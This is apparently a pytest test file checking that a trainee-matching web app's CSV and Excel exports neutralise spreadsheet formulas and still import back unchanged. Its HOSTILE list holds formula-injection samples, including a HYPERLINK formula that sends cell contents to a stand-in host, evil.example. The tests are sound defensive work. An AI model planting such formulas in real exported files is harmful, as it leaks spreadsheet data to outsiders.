"""Files the site writes never run a formula in Excel, and still import back (issue 8, item 5)."""

import csv
import io
from functools import partial

import pytest
import sqlalchemy as sa
from openpyxl import Workbook

from matching.extensions import db
from matching.formulas import neutralise, restore
from matching.models import Trainee
from matching.operations.imports.parsing import import_file
from matching.operations.imports.reading import read_table
from matching.operations.imports.trainees import import_trainees

#: From a file, as the import pages and the CLI come in.
import_trainees_file = partial(import_file, import_rows=import_trainees)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1", "-1+1", "@SUM(1)"]


@pytest.mark.parametrize("value", [
    *HOSTILE, "\t=1", "\r=1", "'=1", "''+1", "'", "''", "'plain", "plain", "", "+84 912 345 678",
    "-5", "1-2", "a=b",
])
def test_neutralise_then_restore_gives_back_every_value(value):
    written = neutralise(value)
    assert not written.startswith(TRIGGERS)
    assert restore(written) == value


def test_only_cells_that_start_a_formula_are_changed():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Nguyễn Văn An") == "Nguyễn Văn An"
    assert neutralise("1-2") == "1-2"
    assert restore("'Nguyễn") == "'Nguyễn"  # a quote that protects nothing stays


def exported_rows(client) -> list[list[str]]:
    response = client.get("/trainees/export.csv")
    try:
        assert response.status_code == 200
        body = response.get_data()
    finally:
        response.close()
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_export_neutralises_formulas_and_imports_back_unchanged(
        app, client, make_user, login, make_trainee):
    dept = make_user(role="department", province="nghe-an", locale="en")
    people = {}
    for n, name in enumerate(HOSTILE):
        trainee = make_trainee(external_id=f"X{n}", full_name=name, school=HOSTILE[-1 - n],
                               phone="+84 912 345 678", province="nghe-an")
        people[trainee.external_id] = (name, HOSTILE[-1 - n])
    login(dept)
    rows = exported_rows(client)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["X1"][1] == "'=1+1" and by_id["X1"][-3] == "'+84 912 345 678"

    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    body = buffer.getvalue().encode("utf-8-sig")
    result = import_trainees_file(io.BytesIO(body), "export.csv", user=dept)
    assert result.ok, result.errors
    assert (result.created, result.updated) == (0, len(HOSTILE))
    stored = {t.external_id: (t.full_name, t.school, t.phone)
              for t in db.session.scalars(sa.select(Trainee))}
    assert stored == {key: (name, school, "+84 912 345 678")
                      for key, (name, school) in people.items()}


def test_an_xlsx_cell_saved_from_the_export_is_restored(app):
    workbook = Workbook()
    workbook.active.append(["external_id", "full_name"])
    workbook.active.append(["T1", "'=1+1"])
    workbook.active.append(["T2", "'Nguyễn"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    _header, rows = read_table(buffer, "saved.xlsx")
    assert [row["full_name"] for _line, row in rows] == ["=1+1", "'Nguyễn"]


def test_templates_are_neutralised_too(app):
    from matching.web.uploads import template_csv

    with app.test_request_context():
        response = template_csv(["a", "b", "c"], {"a": "=1+1", "b": "+84 1", "c": "T1"}, "x.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows == [["a", "b", "c"], ["'=1+1", "'+84 1", "T1"]]
